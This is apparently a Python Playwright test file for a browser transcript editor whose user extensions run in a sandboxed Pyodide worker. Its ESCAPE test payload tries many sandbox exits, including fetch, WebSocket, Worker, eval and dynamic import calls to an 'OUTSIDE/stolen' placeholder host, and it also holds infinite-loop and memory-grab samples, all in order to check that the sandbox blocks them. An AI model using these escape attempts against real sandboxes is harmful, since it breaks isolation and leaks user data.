"""Extensions in the built page: packages of the user, in a worker that nothing can leave."""

from __future__ import annotations

import base64
import json
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from playwright.sync_api import Page

from tests.support.browser import Visitor, wait_ready
from tests.support.page_actions import imported
from tests.support.server_process import ServerProcess
from tests.support.static_site import StaticSite

EXAMPLE = Path(__file__).resolve().parents[2] / "docs" / "extension-example"
SRT = "1\n00:00:01,000 --> 00:00:02,500\nUm, it is twenty two.\n"
SHOUT = """
class Shout:
    title = "Capital letters"
    def apply(self, transcript):
        return {i: each.text.upper() for i, each in enumerate(transcript.segments)}

class Lines:
    extension, title, media_type = "lines", "Lines", "text/plain"
    def write(self, transcript):
        return transcript.text.encode()
    def read(self, data):
        from earwitness.transcript import Segment, Transcript
        lines = data.decode().splitlines()
        segments = tuple(Segment(i, i + 1.0, line) for i, line in enumerate(lines))
        return Transcript("", "lines", "", 0.0, "lines", segments=segments)
"""
ESCAPE = """
import json
import time
WAYS = {
    "indexedDB": lambda js: js.indexedDB.open("earwitness"),
    "caches": lambda js: js.caches.keys(),
    "files": lambda js: js.navigator.storage.getDirectory(),
    "fetch": lambda js: js.fetch("OUTSIDE/stolen", mode="no-cors"),
    "XMLHttpRequest": lambda js: js.XMLHttpRequest.new(),
    "WebSocket": lambda js: js.WebSocket.new("OUTSIDE/stolen".replace("http", "ws")),
    "EventSource": lambda js: js.EventSource.new("OUTSIDE/stolen"),
    "WebTransport": lambda js: js.WebTransport.new("OUTSIDE/".replace("http:", "https:")),
    "BroadcastChannel": lambda js: js.BroadcastChannel.new("earwitness"),
    "Worker": lambda js: js.Worker.new("OUTSIDE/stolen"),
    "importScripts": lambda js: js.importScripts,
    "postMessage": lambda js: js.postMessage("x"),
    "locks": lambda js: js.navigator.locks.query(),
    "serviceWorker": lambda js: js.navigator.serviceWorker.ready,
    "eval": lambda js: js.eval("1"),
    "Function": lambda js: js.Function.new("return import('OUTSIDE/stolen')"),
    "run_js": lambda js: __import__("pyodide.code").code.run_js("1"),
    "prototype": lambda js: js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.globalThis))
        .importScripts,
    "open_url": lambda js: __import__("pyodide.http").http.open_url("OUTSIDE/stolen"),
}
class Escape:
    title = "Every way out"
    def apply(self, transcript):
        import js
        open_ways = []
        for name, way in WAYS.items():
            try:
                answer = way(js)
            except BaseException:
                continue
            if hasattr(answer, "then"):
                answer.then(lambda *_: None, lambda *_: None)
                if name == "fetch":
                    until = time.monotonic() + 1
                    while time.monotonic() < until:
                        pass  # The browser sends it meanwhile, if nothing forbids it.
                    continue
            open_ways.append(name)
        return {0: json.dumps(open_ways)}
"""
FOREVER = """
class Forever:
    title = "Never ends"
    def apply(self, transcript):
        while True:
            pass
"""
GREEDY = """
class Greedy:
    title = "Takes memory"
    def apply(self, transcript):
        try:
            taken = [bytearray(256 << 20) for _ in range(12)]
        except MemoryError:
            return {0: "refused"}
        return {0: f"got {len(taken)}"}
"""


def example_wheel(folder: Path) -> Path:
    """Build the wheel of docs/extension-example as pip would install it."""
    path = folder / "earwitness_example-1.0.0-py3-none-any.whl"
    info = "earwitness_example-1.0.0.dist-info"
    project = tomllib.loads((EXAMPLE / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    points = "".join(
        f"[{group}]\n" + "".join(f"{name} = {place}\n" for name, place in entries.items())
        for group, entries in project["entry-points"].items()
    )
    with ZipFile(path, "w") as wheel:
        for source in sorted((EXAMPLE / "earwitness_example").glob("*.py")):
            wheel.write(source, f"earwitness_example/{source.name}")
        about = (
            "Metadata-Version: 2.1\nName: earwitness-example\nVersion: 1.0.0\nSummary: Example\n"
        )
        wheel.writestr(f"{info}/METADATA", about)
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\n")
        wheel.writestr(f"{info}/entry_points.txt", points)
        wheel.writestr(f"{info}/RECORD", "")
    return path


def add(page: Page, name: str, data: bytes) -> list[dict[str, Any]]:
    return page.evaluate(
        """([name, data]) => {
          const bytes = Uint8Array.from(atob(data), (each) => each.charCodeAt(0));
          return earwitness.extensions.add(new File([bytes], name));
        }""",
        [name, base64.b64encode(data).decode()],
    )


def refusal(page: Page, name: str, data: bytes) -> str:
    return page.evaluate(
        """([name, data]) => {
          const bytes = Uint8Array.from(atob(data), (each) => each.charCodeAt(0));
          return earwitness.extensions.add(new File([bytes], name))
            .then(() => 'added', (thrown) => thrown.message);
        }""",
        [name, base64.b64encode(data).decode()],
    )


def test_wheel_adds_rules_and_formats_that_stay_after_a_reload(
    visitor: Visitor, server: ServerProcess, tmp_path: Path
) -> None:
    page = visitor.open(server.url)
    wheel = example_wheel(tmp_path)
    [view] = add(page, wheel.name, wheel.read_bytes())
    assert (view["name"], view["version"], view["on"]) == ("earwitness-example", "1.0.0", True)
    assert [rule["name"] for rule in view["rules"]] == ["clean-verbatim", "numbers"]
    page.reload()
    wait_ready(page)
    id_ = imported(page, SRT)
    page.evaluate("(id) => earwitness.apply(id, 'clean-verbatim')", id_)
    page.evaluate("(id) => earwitness.apply(id, 'numbers')", id_)
    text = "(id) => earwitness.get(id).then(({ text }) => text)"
    assert page.evaluate(text, id_) == "It is 22."
    page.evaluate("(id) => earwitness.undo(id)", id_)
    assert page.evaluate(text, id_) == "It is twenty two."
    written = page.evaluate(
        "(id) => earwitness.export(id, 'quotes').then((file) => file.text())", id_
    )
    assert written == "“It is twenty two.” — 1.0 s\n"
    page.evaluate("() => earwitness.extensions.enable('earwitness-example', false)")
    refused = page.evaluate(
        "(id) => earwitness.apply(id, 'numbers').catch((thrown) => thrown.message)", id_
    )
    assert "No extension has the rule 'numbers'" in refused
    assert page.evaluate("() => earwitness.extensions.remove('earwitness-example')") == []


def test_module_of_one_file_is_an_extension(visitor: Visitor, server: ServerProcess) -> None:
    page = visitor.open(server.url)
    [view] = add(page, "shout.py", SHOUT.encode())
    assert [rule["title"] for rule in view["rules"]] == ["Capital letters"]
    id_ = imported(page, "One.\nTwo.\n", "talk.lines")
    page.evaluate("(id) => earwitness.apply(id, 'shout.Shout')", id_)
    found = page.evaluate("(id) => earwitness.get(id)", id_)
    assert found["text"] == "ONE.\nTWO."
    assert [each["start_s"] for each in found["segments"]] == [0.0, 1.0]


@pytest.fixture
def outside(tmp_path: Path, visitor: Visitor) -> Iterator[StaticSite]:
    """A host that this browser reaches, and no extension must."""
    site = StaticSite(tmp_path)
    blank = visitor.context.new_page()
    fetch = "(url) => fetch(url, { mode: 'no-cors' }).then(() => {}, () => {})"
    blank.evaluate(fetch, f"{site.origin}{site.put('control', b'')}")
    blank.close()
    assert len(site.requests) == 1
    site.requests.clear()
    yield site
    assert site.requests == []
    site.close()


def escape(outside: StaticSite) -> bytes:
    return ESCAPE.replace("OUTSIDE", outside.origin).encode()


def test_extension_has_no_way_out_and_little_memory(
    visitor: Visitor, server: ServerProcess, outside: StaticSite
) -> None:
    page = visitor.open(server.url)
    add(page, "escape.py", escape(outside))
    add(page, "greedy.py", GREEDY.encode())
    id_ = imported(page, SRT)
    page.evaluate("(id) => earwitness.apply(id, 'escape.Escape')", id_)
    text = "(id) => earwitness.get(id).then(({ text }) => text)"
    assert json.loads(page.evaluate(text, id_)) == []
    page.evaluate("(id) => earwitness.apply(id, 'greedy.Greedy')", id_)
    assert page.evaluate(text, id_) == "refused"
    visitor.expect_errors("Content Security Policy", "unsafe-eval")


def test_extension_has_no_way_out_on_a_host_without_headers(
    visitor: Visitor, plain_host: StaticSite, outside: StaticSite
) -> None:
    page = visitor.open(plain_host.url)
    page.evaluate("() => navigator.serviceWorker.ready")
    page.reload()
    wait_ready(page)
    add(page, "escape.py", escape(outside))
    id_ = imported(page, SRT)
    page.evaluate("(id) => earwitness.apply(id, 'escape.Escape')", id_)
    found = page.evaluate("(id) => earwitness.get(id)", id_)
    assert json.loads(found["text"]) == []
    visitor.expect_errors("Content Security Policy", "unsafe-eval")


def test_what_is_no_extension_is_refused(visitor: Visitor, server: ServerProcess) -> None:
    page = visitor.open(server.url)
    compiled = "fast-1.0-cp314-cp314-pyodide_2026_0_wasm32.whl"
    assert "holds compiled code" in refusal(page, compiled, b"")
    assert "brings no format and no rule" in refusal(page, "empty.py", b"x = 1")
    assert "'broken.py' failed" in refusal(page, "broken.py", b"raise SystemExit")
    assert "cannot be installed" in refusal(page, "a-1.0-py3-none-any.whl", b"no zip")
    assert "is no extension" in refusal(page, "talk.srt", b"")
    assert page.evaluate("() => earwitness.extensions.list()") == []
